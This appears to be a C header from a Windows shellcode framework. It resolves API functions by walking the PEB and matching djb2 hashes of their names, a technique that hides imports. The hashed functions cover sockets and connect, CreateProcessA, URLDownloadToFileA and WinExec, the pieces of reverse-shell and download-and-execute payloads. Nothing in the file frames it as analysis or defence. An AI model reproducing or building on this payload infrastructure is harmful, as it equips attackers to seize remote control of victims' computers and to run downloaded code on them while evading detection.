/* What the compiled codes for Windows share: functions of libraries by the hash of their names,
 * through the PEB, 32 and 64 bit. */
#ifndef COMPILED_WINDOWS_H
#define COMPILED_WINDOWS_H

#ifdef __x86_64__
#define CALLED __attribute__((ms_abi))
enum { LOADER = 0x18, MODULES = 0x20, BASE = 0x20, EXPORTS = 0x88 }; /* of PEB, … */
#else
#define CALLED __attribute__((stdcall))
enum { LOADER = 0x0c, MODULES = 0x14, BASE = 0x10, EXPORTS = 0x78 };
#endif

#ifdef BEGINS_APART
#define ENTRY
#else
#define ENTRY __attribute__((section(".text.first")))
#endif

typedef unsigned char byte;
typedef unsigned short word;
typedef unsigned dword;

/* Hashes of names, times 33 from 5381. */
enum {
	LOAD_LIBRARY = 0x5fbff0fb, /* LoadLibraryA */
	START_SOCKETS = 0x6128c683, /* WSAStartup */
	OPEN_SOCKET = 0x559f159a, /* WSASocketA */
	CONNECT = (int)0xd3764dcf, /* connect */
	CREATE_PROCESS = (int)0xaeb52e19, /* CreateProcessA */
	EXIT_PROCESS = (int)0xb769339e, /* ExitProcess */
	DOWNLOAD = (int)0xcdea05f4, /* URLDownloadToFileA */
	EXECUTE = 0x29a65678 /* WinExec */
};

byte *function_by_hash(dword hash);

#endif
